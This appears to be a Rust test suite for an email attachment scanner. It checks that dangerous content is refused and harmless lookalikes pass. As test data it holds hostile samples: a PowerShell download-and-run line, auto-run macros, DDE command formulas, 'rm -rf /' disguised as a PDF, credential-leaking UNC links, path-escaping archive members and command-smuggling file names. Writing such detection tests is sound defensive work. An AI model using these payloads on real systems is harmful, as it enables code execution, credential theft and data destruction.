//! For every rule on content: what it is there for is refused, and what looks like it passes.

use mailkeep_inspect::danger::RULES;
use mailkeep_inspect::{Level, Verdict};

use crate::build::{self, Entry};
use crate::{attachment, refusing};

/// A piece of content and the rule that must speak of it.
struct Case {
    rule: &'static str,
    name: &'static str,
    declared: &'static str,
    octets: Vec<u8>,
}

fn case(
    rule: &'static str,
    name: &'static str,
    declared: &'static str,
    octets: impl Into<Vec<u8>>,
) -> Case {
    Case {
        rule,
        name,
        declared,
        octets: octets.into(),
    }
}

const BINARY: &str = "application/octet-stream";
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR0000000000000";

fn macros(text: &str) -> Vec<u8> {
    build::compound(&[("VBA/Module1", &build::module(text))])
}

fn relation(kind: &str, target: &str) -> Vec<u8> {
    format!(
        "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
    )
    .into_bytes()
}

fn calendar(lines: &str) -> Vec<u8> {
    format!(
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\n{lines}END:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    .into_bytes()
}

/// A record of a workbook.
fn record(number: u16, body: &[u8]) -> Vec<u8> {
    let length = u16::try_from(body.len()).unwrap();
    [&number.to_le_bytes()[..], &length.to_le_bytes(), body].concat()
}

/// A property of a message in Outlook's wrapping that has a number for a name.
fn reminder(path: &str) -> Vec<u8> {
    let mut property = 1_u32.to_le_bytes().to_vec();
    property.extend([0x1e, 0, 0x1f, 0x85]);
    property.extend([0; 16]);
    property.extend(0_u32.to_le_bytes());
    property.extend(0x851f_u32.to_le_bytes());
    property.extend(1_u32.to_le_bytes());
    property.extend(u32::try_from(path.len() + 1).unwrap().to_le_bytes());
    property.extend(path.as_bytes());
    property.resize(property.len() + 4 - path.len() % 4, 0);
    build::tnef(&[(1, 0x0006_9003, &property)])
}

fn smuggled(content: &[u8]) -> Vec<u8> {
    use base64::Engine;
    let text = base64::engine::general_purpose::STANDARD.encode(content);
    format!("<html><script>var file = '{text}'; save(atob(file));</script></html>").into_bytes()
}

fn refused_by_default() -> Vec<Case> {
    let program = build::program();
    let long_organizer = format!("ORGANIZER:mailto:{}@example.org\r\n", "a".repeat(2100));
    let mut malformed = build::wrapped("a.txt", b"Hello.");
    malformed[6 + 5..6 + 9].copy_from_slice(&0x7fff_ffff_u32.to_le_bytes());
    let formats = [
        record(0x809, &[0; 16]),
        record(0x41e, b"\0\0\x14\0\0[>system('a')]0;0"),
        record(0x0a, b""),
    ]
    .concat();
    let sheet = [
        record(0x809, &[0; 16]),
        record(0x85, b"\0\0\0\0\0\x01\x04\0auto"),
        record(0x0a, b""),
    ]
    .concat();
    vec![
        case("test-virus", "a.txt", "text/plain", build::test_virus()),
        case("test-virus", "a.zip", "application/zip", build::zip(&[Entry::new("a.txt", &build::test_virus())])),
        case("executable", "readme", BINARY, program.clone()),
        case("executable", "a.zip", "application/zip", build::zip(&[Entry::new("readme", &program)])),
        case("executable", "a.tar.gz", "application/gzip", build::gzip(&build::tar(&[("readme", &program, None)]))),
        case("executable", "a.doc", "application/msword", build::compound(&[("Contents", &program)])),
        case("executable", "a.rtf", "text/rtf", build::rich_text("Package", &build::package("a.txt", &program))),
        case("executable", "a.pdf", "application/pdf", build::pdf("a.txt", &program, true)),
        case("executable", "a.one", BINARY, build::onenote(&program)),
        case("executable", "winmail.dat", "application/ms-tnef", build::wrapped("a.txt", &program)),
        case("executable", "a.html", "text/html", smuggled(&program)),
        case("executable", "a", BINARY, b"\x7fELF\x02\x01\x01\0".as_slice()),
        case("executable", "a", BINARY, b"\xca\xfe\xba\xbe\0\0\0\x41".as_slice()),
        case("executable", "a", BINARY, b"\xcf\xfa\xed\xfe\x07\0\0\x01".as_slice()),
        case("embedded-executable", "a.png", "image/png", [PNG, &program].concat()),
        case("script", "a", BINARY, "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n"),
        case("script", "a", BINARY, "@echo off\r\ndel a\r\n"),
        case("script", "a", BINARY, "IEX (New-Object Net.WebClient).DownloadString('http://a.example/')\n"),
        case("encoded-script", "a.txt", "text/plain", "#@~^AAAAAA==abc^#~@"),
        case("shortcut", "a", BINARY, b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".as_slice()),
        case("shortcut", "a.url", BINARY, "[InternetShortcut]\r\nURL=file://203.0.113.1/share/a\r\n"),
        case("shortcut", "a.url", BINARY, "[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=\\\\203.0.113.1\\a\\b.ico\r\n"),
        case("shortcut", "a.url", BINARY, "[InternetShortcut]\r\nURL=http://example.org/a.exe\r\n"),
        case("shortcut", "a.scf", BINARY, "[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.1\\a\r\n"),
        case("dangerous-name", "a.hta", BINARY, "hello"),
        case("dangerous-name", "a.JS ", BINARY, "var a = 1;"),
        case("dangerous-name", "a.zip", "application/zip", build::zip(&[Entry::new("a.js", b"var a = 1;")])),
        case("dangerous-name", "a.rar", BINARY, build::rar4(&[("a.exe", b"packed")], 0x33, false)),
        case("double-extension", "invoice.pdf.exe", BINARY, "x"),
        case("hidden-extension", "invoice\u{202e}fdp.txt", BINARY, "x"),
        case("hidden-extension", "invoice.pdf                        .com", BINARY, "x"),
        case("type-mismatch", "a.wav", "audio/x-wav", program.clone()),
        case("type-mismatch", "a.scr", "audio/x-midi", "x"),
        case("type-mismatch", "invoice.pdf", "application/pdf", "#!/bin/sh\nrm -rf /\n"),
        case("type-mismatch", "photo.jpg", BINARY, program.clone()),
        case("member-escapes", "a.tar", BINARY, build::tar(&[("../../etc/cron.d/a", b"x", None)])),
        case("member-escapes", "a.tar", BINARY, build::tar(&[("a", b"", Some("/etc")), ("a/passwd", b"x", None)])),
        case("member-escapes", "a.rar", BINARY, build::rar5(&[("a", b"", Some("..\\..\\etc"))])),
        case("member-shell", "a.tar", BINARY, build::tar(&[("`id`.pdf", b"x", None)])),
        case("member-shell", "a$(id).pdf", "application/pdf", "%PDF-1.4"),
        case(
            "encrypted-program",
            "a.zip",
            "application/zip",
            build::zip(&[Entry {
                encrypted: true,
                ..Entry::new("invoice.exe", b"secret")
            }]),
        ),
        case("archive-ambiguous", "a.zip", "application/zip", build::zip(&[Entry { local: "b.txt", ..Entry::new("a.txt", b"x") }])),
        case("virtual-disk", "a.vhdx", BINARY, b"vhdxfile\0\0".as_slice()),
        case("office-macro-runs", "a.doc", "application/msword", macros("Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n")),
        case(
            "office-macro-runs",
            "a.docm",
            BINARY,
            build::ooxml(&[("word/vbaProject.bin", &macros("Sub Document_Open()\r\nCreateObject(\"WScript.Shell\").Run a\r\nEnd Sub"))]),
        ),
        case("office-macro-hidden", "a.docx", BINARY, build::ooxml(&[("word/vbaProject.bin", &macros("Sub A()\r\nEnd Sub"))])),
        case("office-macro-sheet", "a.xls", "application/vnd.ms-excel", build::compound(&[("Workbook", &sheet)])),
        case("office-macro-sheet", "a.xlsm", BINARY, build::ooxml(&[("xl/macrosheets/sheet1.xml", b"<a/>")])),
        case("office-object-external", "a.docx", BINARY, build::ooxml(&[("word/_rels/document.xml.rels", &relation("oleObject", "mhtml:http://a.example/b.html!x-usc:http://a.example/b.html"))])),
        case("office-dde", "a.docx", BINARY, build::ooxml(&[("word/document.xml", b"<w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r><w:instrText>AUTO c:\\a</w:instrText>")])),
        case("office-dde", "a.csv", "text/csv", "a,b\r\n=cmd|'/C calc'!A0,2\r\n"),
        case("office-program-link", "a.pptx", BINARY, build::ooxml(&[("ppt/slides/slide1.xml", b"<p:sld><a:hlinkMouseOver r:id=\"rId2\" action=\"ppaction://program\"/></p:sld>")])),
        case("office-code-format", "a.xls", "application/vnd.ms-excel", build::compound(&[("Workbook", &formats)])),
        case("office-code-format", "a.xlsx", BINARY, build::ooxml(&[("xl/styles.xml", b"<numFmt formatCode=\"[&gt;system('a')]0\"/>")])),
        case("rtf-object", "a.rtf", "text/rtf", build::rich_text("Equation.3", b"\x1c\0\0\0")),
        case("html-smuggling", "a.html", "text/html", smuggled(&build::zip(&[Entry::new("a.txt", &[b'x'; 64])]))),
        case("pdf-launch", "a.pdf", "application/pdf", "%PDF-1.4\n1 0 obj\n<</S/L#61unch/F(cmd)>>\nendobj\n"),
        case("reminder-unc", "winmail.dat", "application/ms-tnef", reminder("\\\\203.0.113.1\\a\\b.wav")),
        case("reminder-unc", "a.ics", "text/calendar", calendar("ATTACH:\\\\203.0.113.1\\a.wav\r\n")),
        case("moniker-link", "a.html", "text/html", "<html><a href=\"file:///\\\\203.0.113.1\\test\\a.rtf!something\">a</a>"),
        case("ntlm-leak", "a.html", "text/html", "<html><a href=\"search-ms:query=a&crumb=location:\\\\203.0.113.1\\a\">a</a>"),
        case("tnef-malformed", "winmail.dat", "application/ms-tnef", malformed),
        case("calendar-modprops", "a.ics", "text/calendar", calendar("X-MICROSOFT-CDO-MODPROPS:A\r\nX-MICROSOFT-CDO-MODPROPS:AA,BB\r\n")),
        case("calendar-organizer", "a.ics", "text/calendar", calendar(&long_organizer)),
        case("calendar-active", "a.ics", "text/calendar", calendar("X-ALT-DESC;FMTTYPE=text/html:<img src=x\r\n  onerror=alert(1)>\r\n")),
    ]
}

fn refused_when_strict() -> Vec<Case> {
    let many: Vec<(String, Vec<u8>)> = (0..30)
        .map(|nth| (format!("site/{nth}.html"), b"<html>".to_vec()))
        .collect();
    let mut sources: Vec<Entry<'_>> = many
        .iter()
        .map(|(name, content)| Entry::new(name, content))
        .collect();
    sources.push(Entry::new("site/a.js", b"var a = 1;"));
    let iso = crate::archives::fixture("joliet-rock.iso.gz");
    vec![
        case(
            "unix-script",
            "a.sh",
            "text/x-sh",
            "#!/bin/sh\necho hello\n",
        ),
        case(
            "web-shortcut",
            "a.url",
            BINARY,
            "[InternetShortcut]\r\nURL=https://example.org/page\r\nIconIndex=1\r\n",
        ),
        case("risky-name", "a.mdb", BINARY, "x"),
        case(
            "script-in-archive",
            "site.zip",
            "application/zip",
            build::zip(&sources),
        ),
        case("type-differs", "a.jpg", "image/jpeg", "%PDF-1.4\n"),
        case(
            "member-absolute",
            "a.tar",
            BINARY,
            build::tar(&[("/home/a", b"x", None)]),
        ),
        case(
            "encrypted-archive",
            "a.zip",
            "application/zip",
            crate::archives::fixture("encrypted.zip"),
        ),
        case(
            "encrypted-archive",
            "a.7z",
            BINARY,
            crate::archives::fixture("encrypted-names.7z"),
        ),
        case(
            "encrypted-archive",
            "a.docx",
            BINARY,
            build::compound(&[("EncryptedPackage", b"x")]),
        ),
        case(
            "archive-damaged",
            "a.gz",
            BINARY,
            build::gzip(b"Hello, hello, hello.")[..20].to_vec(),
        ),
        case(
            "archive-not-unpacked",
            "a.lz4",
            BINARY,
            b"\x04\x22\x4d\x18Hello.".to_vec(),
        ),
        case(
            "polyglot",
            "a.png",
            "image/png",
            [PNG, &build::zip(&[Entry::new("a.txt", b"x")])].concat(),
        ),
        case("disk-image", "a.iso.gz", BINARY, iso),
        case(
            "office-macro",
            "a.xls",
            BINARY,
            macros("Sub Sum()\r\nRange(\"A1\") = 1\r\nEnd Sub\r\n"),
        ),
        case(
            "office-template-external",
            "a.docx",
            BINARY,
            build::ooxml(&[(
                "word/_rels/settings.xml.rels",
                &relation("attachedTemplate", "https://a.example/b.dotm"),
            )]),
        ),
        case(
            "html-attachment-script",
            "a.html",
            "text/html",
            "<html><script>a()</script></html>",
        ),
        case(
            "svg-script",
            "a.svg",
            "image/svg+xml",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>a()</script></svg>",
        ),
        case(
            "pdf-script",
            "a.pdf",
            "application/pdf",
            "%PDF-1.4\n1 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n",
        ),
    ]
}

#[test]
fn a_program_in_a_page_is_found_however_its_letters_are_parted() {
    use base64::Engine;
    let program = build::program();
    let letters = base64::engine::general_purpose::STANDARD.encode(&program);
    let parted = |by: &str, length: usize| -> String {
        let pieces: Vec<&str> = letters
            .as_bytes()
            .chunks(length)
            .map(|piece| std::str::from_utf8(piece).unwrap())
            .collect();
        pieces.join(by)
    };
    let link = |data: String| format!("<html><body><a href=\"{data}\">x</a></body></html>");
    let based = |letters: String| link(format!("data:application/octet-stream;base64,{letters}"));
    let digits: Vec<String> = program
        .iter()
        .map(|octet| format!("%{octet:02X}"))
        .collect();
    let calendar = format!(
        "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;ENCODING=BASE64;VALUE=BINARY:\r\n {}\r\nEND:VEVENT\r\n",
        parted("\r\n ", 9)
    );
    let wide: Vec<u8> = [0xfeff]
        .into_iter()
        .chain(based(parted("", 99)).encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect();
    let mut pages: Vec<Vec<u8>> = [" ", "\t", "\r\n", "%0A", "%0d%0a", "&#10;", "&NewLine;"]
        .into_iter()
        .flat_map(|by| [based(parted(by, 20)), based(parted(by, 2))])
        .chain([
            link(format!("data:,{}", digits.concat())),
            link(format!("DATA:application/octet-stream,{}", digits.concat())),
            format!(
                "<html><script>save(atob('{}'))</script>",
                parted("' +\r\n    '", 20)
            ),
            format!(
                "<html><script>save([\"{}\"].join(''))</script>",
                parted("\",\"", 30)
            ),
            format!(
                "<html><script>a=['{}', '{}']</script>",
                "iVBOR".repeat(20),
                parted("", 99)
            ),
            calendar,
        ])
        .map(String::into_bytes)
        .collect();
    pages.push(wide);
    for page in pages {
        let shown = String::from_utf8_lossy(&page)
            .chars()
            .take(160)
            .collect::<String>();
        let said = refusing("a.html", "text/html", &page, Level::Default);
        assert!(said.contains(&"executable".to_owned()), "{shown}: {said:?}");
    }
    for page in [
        based("iVBORw0KGgo AAAANSUhEUgAAAAE".to_owned()),
        based("H4sIAJ59A2sC/6tWSlSyMqytHqVGqVFqlBqlRqlRapTCRwEAKsVlLDQIAAA=".to_owned()),
        link("data:,Hello%20World%21%20Hello".to_owned()),
        "<p>TVproductionsabcdef TVproductionsabcdef TVproductionsabcdef and so on and so on and so on".to_owned(),
        "<p>data: a, b and more than this</p>".to_owned(),
    ] {
        assert_eq!(refusing("a.html", "text/html", page.as_bytes(), Level::Default), Vec::<String>::new(), "{page}");
    }
}

#[test]
fn what_a_rule_is_there_for_is_refused_by_default() {
    for case in refused_by_default() {
        let rules = refusing(case.name, case.declared, &case.octets, Level::Default);
        assert!(
            rules.iter().any(|rule| rule == case.rule),
            "{} in {}: {rules:?}",
            case.rule,
            case.name
        );
    }
}

#[test]
fn what_honest_mail_has_is_noticed_by_default_and_refused_when_strict() {
    for case in refused_when_strict() {
        let rules = refusing(case.name, case.declared, &case.octets, Level::Default);
        assert_eq!(
            rules,
            Vec::<String>::new(),
            "{} in {}",
            case.rule,
            case.name
        );
        let rules = refusing(case.name, case.declared, &case.octets, Level::Strict);
        assert!(
            rules.iter().any(|rule| rule == case.rule),
            "{} in {}: {rules:?}",
            case.rule,
            case.name
        );
    }
}

#[test]
fn every_rule_has_a_case_or_a_test_of_its_own() {
    // Two names need a message, and the limits are reached in `built.rs` and by readings.
    let elsewhere = [
        "names-disagree",
        "limit-depth",
        "limit-parts",
        "limit-octets",
        "limit-member-octets",
        "limit-ratio",
        "limit-readings",
    ];
    let cases: Vec<Case> = refused_by_default()
        .into_iter()
        .chain(refused_when_strict())
        .collect();
    for rule in RULES {
        let covered =
            cases.iter().any(|case| case.rule == rule.name) || elsewhere.contains(&rule.name);
        assert!(covered, "{}", rule.name);
    }
    for case in cases {
        assert!(
            RULES.iter().any(|rule| rule.name == case.rule),
            "{}",
            case.rule
        );
    }
}

#[test]
fn two_names_of_which_one_is_a_programs_are_refused() {
    use mailkeep_inspect::{Content, Origin, Profile, danger, kind};
    let content = Content {
        octets: b"x".as_slice().into(),
        names: vec!["photo.jpg".into(), "photo.exe".into()],
        types: vec![BINARY.into()],
        origin: Origin::Attachment,
        place: "2".into(),
    };
    let reasons = danger::of_content(&content, kind::of(b"x"), &Profile::default());
    assert!(
        reasons
            .iter()
            .any(|reason| reason.rule == "names-disagree" && reason.verdict == Verdict::Refuse)
    );
}

#[test]
fn what_only_mentions_or_resembles_a_danger_passes_and_its_neighbour_does_not() {
    let check = |name: &str, octets: &[u8], passes: bool| {
        let rules = refusing(name, BINARY, octets, Level::Default);
        assert_eq!(rules.is_empty(), passes, "{name}: {rules:?}");
    };
    // Chance makes `MZ`; numbers of a DOS header behind it, it does not.
    let chance = b"MZ\xc3\x17\x9f\x02\xfe\x11\x41\x07\x93\xb0\x0c\x55\x7a\x81\x03\xee\x19\xa4\x60\xd2\x3b\x08\xc7\x15";
    check("MZ", chance, true);
    let mut old = [0_u8; 64];
    old[..26].copy_from_slice(
        b"MZ\x20\0\x08\0\x02\0\x04\0\x10\0\xff\xff\x20\0\0\x02\0\0\x12\0\0\0\x1e\0",
    );
    check("setup", &old, false);
    check("setup", b"MZ\x90\0\x03\0\0\0\x04", false);
    // A site has a directory and a file of settings for each domain.
    let site = build::zip(&[
        Entry::new("www.example.com/", b""),
        Entry::new("sites/www.example.com", b"server {\n  listen 80;\n}\n"),
    ]);
    check("site.zip", &site, true);
    check("www.example.com", b"server {\n  listen 80;\n}\n", true);
    check(
        "db.example.com",
        b"$TTL 3600\n@ IN SOA ns1.example.com.\n",
        true,
    );
    check("invoice.pdf.com", b"server {\n  listen 80;\n}\n", false);
    check("setup.com", b"XP5O!@#$%", false);
    let program = build::zip(&[Entry::new("setup.exe/", b"x")]);
    check("site.zip", &program, false);
    // Texts and sources speak of scripts.
    let script = b"Run `Start-Process` with `$env:PATH`, then Invoke-WebRequest.\n";
    for name in [
        "howto.rst",
        "main.rs",
        "kurs.srt",
        "Untitled.ipynb",
        "Dockerfile",
    ] {
        check(name, script, true);
    }
    for name in ["invoice.ps1", "invoice.dat", "invoice"] {
        check(name, script, false);
    }
    // Elements that only begin like those of Windows Script Host, and those that are.
    check(
        "App",
        b"<template>\n<package-list/>\n</template>\n<script>\nexport default {}\n</script>\n",
        true,
    );
    check("a", b"<?xml version=\"1.0\"?>\n<!-- x -->\n<job id=\"a\">\n<script language=\"VBScript\">\nx\n</script>\n</job>\n", false);
    // What a library asks of an old browser.
    check(
        "pdf.txt",
        b"try { axo = new ActiveXObject(\"AcroPDF.PDF\"); } catch (e) {}\n",
        true,
    );
    // Sites, courses and sheets hold scripts; a script by more than its name is none of them.
    let archive = |members: &[(&str, &[u8])]| {
        let entries: Vec<_> = members
            .iter()
            .map(|(name, octets)| Entry::new(name, octets))
            .collect();
        build::zip(&entries)
    };
    let code = b"export const a = 1;\n";
    check(
        "a.zip",
        &archive(&[("index.html", b"<html>"), ("js/app.js", code)]),
        true,
    );
    for (marker, octets, script) in [
        ("index.html", &b""[..], "Invoice.js"),
        ("index.html", b"", "js/Invoice.js"),
        ("index.html", b"<html>", "Invoice.js"),
        ("package.json", b"", "Invoice.js"),
        ("package.json", b"{}", "Invoice.bat"),
        ("package.json", b"{}", "Invoice.ps1"),
        ("makefile", b"all:", "Invoice.bat"),
    ] {
        check(
            "a.zip",
            &archive(&[(script, code), (marker, octets)]),
            false,
        );
    }
    check(
        "a.ggb",
        &archive(&[
            ("geogebra.xml", b"<geogebra/>"),
            ("geogebra_javascript.js", code),
        ]),
        true,
    );
    check(
        "a.zip",
        &archive(&[("Seite.html", b"<html>"), ("Seite-Dateien/a.js", code)]),
        true,
    );
    check(
        "a.zip",
        &archive(&[("Seite.html", b"<html>"), ("invoice.js", code)]),
        false,
    );
    check("a.zip", &archive(&[("invoice.js", code)]), false);
    let host = b"new ActiveXObject(\"WScript.Shell\").Run(\"calc\");\n";
    check(
        "a.zip",
        &archive(&[("index.html", b"<html>"), ("app.js", host)]),
        false,
    );
    check(
        "a.zip",
        &archive(&[("index.html", b"<html>"), ("app.vbs", code)]),
        false,
    );
    // Settings of a terminal.
    check("a", b"[shell]\ncommand=bash\n", true);
    check(
        "a",
        b"# mine\n[font]\nsize=1\n[shell]\ncommand=bash\n",
        true,
    );
    check(
        "a",
        b"; x\n\n[Shell]\nCommand=2\nIconFile=\\\\203.0.113.1\\a.ico\n",
        false,
    );
}

#[test]
fn a_text_that_quotes_a_shortcut_is_none() {
    let text =
        "Put this into a file:\r\n\r\n[InternetShortcut]\r\nURL=file://server/share/a.exe\r\n";
    let message = |kind: &str| format!("From: a@example.org\r\nContent-Type: {kind}\r\n\r\n{text}");
    let verdict = |message: String| {
        let profile = mailkeep_inspect::Profile::default();
        mailkeep_inspect::judge(message.as_bytes(), &profile).verdict
    };
    assert_eq!(verdict(message("text/plain")), Verdict::Accept);
    let attached = message("text/plain; name=a.url");
    assert_eq!(verdict(attached), Verdict::Refuse);
}

#[test]
fn what_looks_like_a_danger_passes() {
    let docx = build::ooxml(&[
        (
            "word/document.xml",
            b"<w:t>The DDEAUTO field and cmd.exe</w:t>",
        ),
        (
            "word/_rels/document.xml.rels",
            &relation("hyperlink", "https://example.org/"),
        ),
        (
            "word/_rels/settings.xml.rels",
            &relation("attachedTemplate", "file:///C:\\Templates\\a.dotx"),
        ),
    ]);
    let xlsx = build::ooxml(&[
        (
            "xl/styles.xml",
            b"<numFmt formatCode=\"[Red][&gt;=100]0;[$-409]0\"/>",
        ),
        ("xl/workbook.xml", b"<a/>"),
    ]);
    let invitation = calendar(
        "ORGANIZER;CN=A:mailto:a@example.org\r\nX-MICROSOFT-CDO-MODPROPS:A\r\nDESCRIPTION:Once upon = a time <b>on</b>\r\nX-MICROSOFT-CDO-BUSYSTATUS:BUSY\r\n",
    );
    let sources = build::tar(&[
        ("a-1.0/configure", b"#!/bin/sh\n", None),
        ("a-1.0/bin/link", b"", Some("../lib/a")),
        ("a-1.0/setup.py", b"#!/usr/bin/env python\n", None),
        ("a-1.0/README", b"Read me", None),
    ]);
    let quiet = "Sub Workbook_Open()\r\nRange(\"A1\").Value = Environ(\"username\")\r\nEnd Sub\r\n";
    let honest: Vec<(&str, &str, Vec<u8>)> = vec![
        (
            "report.2026.11.pdf",
            "application/pdf",
            b"%PDF-1.7\n".to_vec(),
        ),
        ("a.tar.gz", "application/gzip", build::gzip(&sources)),
        ("table.csv", "text/csv", b"a;b\r\n-1|'2';+3\r\n".to_vec()),
        ("minutes.v1.2.docx", BINARY, docx),
        ("table.xlsx", BINARY, xlsx),
        ("invite.ics", "text/calendar", invitation),
        (
            "photo.jpg",
            "image/jpeg",
            b"\xff\xd8\xff\xe0\0\x10JFIF".to_vec(),
        ),
        (
            "smime.p7s",
            "application/pkcs7-signature",
            b"\x30\x82\x10\0".to_vec(),
        ),
        (
            "winmail.dat",
            "application/ms-tnef",
            build::wrapped("minutes.txt", b"Hello."),
        ),
        ("table.xls", "application/vnd.ms-excel", macros(quiet)),
        (
            "example.com",
            "message/rfc822",
            b"From: a@example.org\r\nSubject: b\r\n\r\nHello.\r\n".to_vec(),
        ),
        (
            "R\u{e9}sum\u{e9}.doc",
            "application/msword",
            build::compound(&[("WordDocument", b"x")]),
        ),
        (
            "notes.txt",
            "text/plain",
            b"MZ is how programs begin, and PK how zips do.\n".to_vec(),
        ),
        (
            "page.html",
            "text/html",
            b"<html><a href=\"file://server/share/a.txt\">a</a><p>Hello!".to_vec(),
        ),
        ("key.txt", "text/plain", b"begin 644\nnothing\n".to_vec()),
        (
            "archive.zip",
            "application/zip",
            crate::archives::fixture("deflate.zip"),
        ),
        ("letter.rtf", "text/rtf", b"{\\rtf1 Hello}".to_vec()),
        (
            "form.pdf",
            "application/pdf",
            build::pdf("invoice.xml", b"<?xml version=\"1.0\"?><a/>", true),
        ),
        (
            "empty.zip",
            "application/zip",
            b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec(),
        ),
        (
            "drawing.svg",
            "image/svg+xml",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>".to_vec(),
        ),
    ];
    for (name, declared, octets) in honest {
        assert_eq!(
            refusing(name, declared, &octets, Level::Default),
            Vec::<String>::new(),
            "{name}"
        );
    }
}

#[test]
fn a_sender_is_told_what_was_wrong_in_a_sentence() {
    let zip = build::zip(&[Entry::new("a.exe", &build::program())]);
    let reasons = attachment("invoice.zip", "application/zip", &zip, Level::Default);
    let texts: Vec<_> = reasons.iter().map(|reason| reason.text.as_str()).collect();
    assert!(
        texts.contains(&"The file a.exe in the attachment invoice.zip is a Windows program."),
        "{texts:?}"
    );
    assert_eq!(reasons[0].place, "2/invoice.zip/a.exe");
}

#[test]
fn what_leads_to_documents_passes_and_what_leads_to_programs_does_not() {
    let check = |name: &str, octets: &[u8], passes: bool| {
        let rules = refusing(name, BINARY, octets, Level::Default);
        assert_eq!(rules.is_empty(), passes, "{name}: {rules:?}");
    };
    let launch = |action: &str| {
        format!("%PDF-1.7\n1 0 obj\n<< /Type /Action /S /Launch {action} >>\nendobj\n").into_bytes()
    };
    check("a.pdf", &launch("/F (budget.xlsx)"), true);
    check(
        "a.pdf",
        &launch("/F << /Type /Filespec /F (film.mp4) >>"),
        true,
    );
    check(
        "a.pdf",
        b"%PDF-1.7\n5 0 obj\n<< /A << /F (Anlage 1.xlsx) /S /Launch /Type /Action >> /F 4 /P 3 0 R /Subtype /Link >>\nendobj\n",
        true,
    );
    for action in [
        "/F 7 0 R /T (a.pdf)",
        "/UF 7 0 R /F (a.pdf)",
        "/F < 636d642e657865> /T (a.pdf)",
        "/T (a.pdf) % endobj\n/F (cmd.exe)",
        "/T (a.pdf >>) /F (cmd.exe)",
        "/T (a.pdf) /F ((cmd.exe) (a.pdf))",
        "/F (http://203.0.113.1/a.pdf)",
        "/F (a.pdf:cmd.exe)",
        "/F (cmd.exe)",
        "/F (budget.xlsx) /Win << /F (cmd.exe) >>",
        "/F (//203.0.113.1/share/budget.xlsx)",
        "/F (calc.exe\\000.xlsx)",
        "/F (budget.xlsx) /F <636d642e657865>",
        "/F 7 0 R",
        "",
        "/T (a.pdf) /F 12 0 R",
        "/T (a.pdf) /F < 636d642e657865>",
        "/T (a.pdf)",
    ] {
        check("a.pdf", &launch(action), false);
    }
    let far = format!("/T (a.pdf) {} /F (cmd.exe)", " ".repeat(1100));
    check("a.pdf", &launch(&far), false);
    let far = format!("/T (a.pdf) /X [{}] /F (cmd.exe)", "0 ".repeat(1024));
    check("a.pdf", &launch(&far), false);
    for before in [
        "/F (cmd.exe) /X ( 1 0 obj) /T (a.pdf)",
        "/F (cmd.exe) /X (<<) /T (a.pdf)",
        "/F (cmd.exe) /X (<< (a.pdf))",
    ] {
        let action = format!("%PDF-1.7\n1 0 obj\n<< {before} /S /Launch >>\nendobj\n");
        check("a.pdf", action.as_bytes(), false);
    }
    let linked = |target: &str| {
        build::ooxml(&[(
            "word/_rels/document.xml.rels",
            &relation("oleObject", target),
        )])
    };
    check(
        "a.docx",
        &linked("https://acme.sharepoint.com/sites/a/Plan.xlsx!Sheet1!R1C1"),
        true,
    );
    check(
        "a.docx",
        &linked("https://example.org/Plan.xlsx!Sheet1!R1C1"),
        false,
    );
    check(
        "a.docx",
        &linked("https://acme.sharepoint.com/sites/a/Plan.html!"),
        false,
    );
    check(
        "a.docx",
        &linked("https://sharepoint.com.example.org/a.xlsx"),
        false,
    );
    for host in [
        r"evil.example\.sharepoint.com",
        "evil.example?.sharepoint.com",
        "evil.example#.sharepoint.com",
        "a@.sharepoint.com",
    ] {
        check("a.docx", &linked(&format!("https://{host}/a.docx")), false);
    }
    let link = |path: &str| format!("<html><a href=\"file:///{path}\">a</a>").into_bytes();
    check(
        "a.html",
        &link(r"\\srv01\Projekte\!Aktuell\Plan.docx"),
        true,
    );
    check("a.html", &link(r"\\srv01\Projekte\Plan.docx!x"), false);
    check(
        "a.html",
        &link(r"\\srv01\Projekte\!Aktuell\Plan.docx!x"),
        false,
    );
    let field = |text: &str| {
        let document = format!("<w:instrText>{text}</w:instrText>");
        build::ooxml(&[("word/document.xml", document.as_bytes())])
    };
    check(
        "a.docx",
        &field("XE &quot;Adde &quot; XE &quot;cmdlet&quot;"),
        true,
    );
    check("a.docx", &field(r"DDE cmd &quot;/c calc&quot;"), false);
}

#[test]
fn names_with_a_price_a_number_or_a_variable_pass_and_commands_do_not() {
    let refused = |name: &str| {
        let zip = build::zip(&[Entry::new(name, b"Hello.\n")]);
        !refusing("a.zip", "application/zip", &zip, Level::Default).is_empty()
    };
    for name in [
        "Preisliste $(EUR).pdf",
        "Umsatz $(000).xlsx",
        "${artifactId}/pom.xml",
        "Fotos/Icon\r",
        "Rechnung.pdf\r\n",
        "\u{202d}+49 171 2345678\u{202c}.vcf",
        "KONTOAUSZUG            .PDF",
        "Kontoauszug Nr. 5            .PDF",
    ] {
        assert!(!refused(name), "{name:?}");
    }
    for name in [
        "$(reboot).pdf",
        "$(id)",
        "$(A;b)",
        "a${IFS}b",
        "${x:-reboot}",
        "`id`.tar",
        "a\nb.pdf",
        "\u{202d}fdp.exe",
        "\u{202e}fdp.scr",
        "invoice.pdf            .docm",
        "invoice.exe            .pdf",
    ] {
        assert!(refused(name), "{name:?}");
    }
}

#[test]
fn packed_data_in_a_page_is_judged_by_what_it_holds() {
    let zipped = build::zip(&[Entry::new("a.txt", b"Hello.")]);
    let check = |content: &[u8], passes: bool| {
        let rules = refusing("a.html", "text/html", &smuggled(content), Level::Default);
        assert_eq!(rules.is_empty(), passes, "{rules:?}");
    };
    check(&build::gzip(&b"{\"alert\":1}".repeat(20)), true);
    check(&build::gzip(&build::program()), false);
    check(&zipped, false);
